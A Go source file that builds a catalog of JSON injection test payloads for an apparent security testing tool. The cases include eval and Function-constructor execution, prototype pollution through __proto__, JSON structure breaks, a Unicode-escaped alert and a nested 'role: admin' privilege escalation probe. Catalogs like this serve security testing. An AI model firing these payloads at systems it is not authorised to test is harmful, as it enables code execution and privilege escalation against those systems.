// Package payloads holds the fixed JSON injection catalog delivered by jsonraven
package payloads

import (
	"fmt"
	"time"
)

// DefaultParam is used when no vulnerable parameter is configured
const DefaultParam = "data"

// PreviewLength is the number of payload characters shown in logs
const PreviewLength = 100

// Case represents a single named injection test case
type Case struct {
	Name           string `json:"name" yaml:"name"`
	Description    string `json:"description" yaml:"description"`
	Payload        string `json:"payload" yaml:"payload"`
	ExpectedResult string `json:"expected_result" yaml:"expected_result"`
}

// Config controls catalog generation
type Config struct {
	// VulnerableParam is the JSON key / form field under test
	VulnerableParam string

	// Now stamps the promise bypass payload. Defaults to time.Now.
	Now func() time.Time
}

// Generate builds the ordered catalog for the given configuration.
// Payloads are deliberately malformed and are never validated.
func Generate(cfg Config) []Case {
	p := cfg.VulnerableParam
	if p == "" {
		p = DefaultParam
	}
	now := cfg.Now
	if now == nil {
		now = time.Now
	}

	return []Case{
		{
			Name:           "JSON Structure Break",
			Description:    "Tests for JSON parsing errors and structure manipulation",
			Payload:        fmt.Sprintf(`{"%s": "valid"} + alert("JSON_BREAK_SUCCESS"); {"fake": "end"}`, p),
			ExpectedResult: "JavaScript execution or parsing error",
		},
		{
			Name:           "Eval Execution Test",
			Description:    "Attempts code execution through eval() function",
			Payload:        fmt.Sprintf(`{"%s": "eval(\"alert(\\\"EVAL_EXECUTION_SUCCESS\\\")\")", "test": "data"}`, p),
			ExpectedResult: "Code execution through eval()",
		},
		{
			Name:           "Prototype Pollution",
			Description:    "Tests for prototype chain manipulation",
			Payload:        `{"__proto__": {"isHacked": true, "injected": "prototype_pollution_success"}}`,
			ExpectedResult: "Object prototype modification",
		},
		{
			Name:           "Function Constructor Injection",
			Description:    "Attempts execution via Function constructor",
			Payload:        fmt.Sprintf(`{"%s": "Function('return alert(\"FUNCTION_CONSTRUCTOR_SUCCESS\")')()"}`, p),
			ExpectedResult: "Code execution through Function constructor",
		},
		{
			Name:           "Promise Chain Bypass",
			Description:    "Tests for promise-based execution bypass",
			Payload:        fmt.Sprintf(`{"%s": "test"}, console.log("PROMISE_BYPASS_SUCCESS")//rest__promise_%d`, p, now().UnixMilli()),
			ExpectedResult: "Console execution bypass",
		},
		{
			// escapes stay literal, the target is expected to decode them
			Name:           "Unicode Escape Injection",
			Description:    "Tests for Unicode escape sequence processing",
			Payload:        fmt.Sprintf(`{"%s": "\u0061\u006c\u0065\u0072\u0074\u0028\u0022UNICODE_SUCCESS\u0022\u0029"}`, p),
			ExpectedResult: "Unicode decode execution",
		},
		{
			Name:           "Nested Object Injection",
			Description:    "Tests nested object manipulation",
			Payload:        fmt.Sprintf(`{"user": {"role": "admin"}, "%s": {"exec": "alert('NESTED_SUCCESS')"}}`, p),
			ExpectedResult: "Nested object privilege escalation",
		},
	}
}

// Names returns the case names in catalog order
func Names() []string {
	cases := Generate(Config{})
	names := make([]string, 0, len(cases))
	for _, c := range cases {
		names = append(names, c.Name)
	}
	return names
}

// Truncate shortens s to n characters for display, marking the cut with "..."
func Truncate(s string, n int) string {
	runes := []rune(s)
	if len(runes) <= n {
		return s
	}
	return string(runes[:n]) + "..."
}
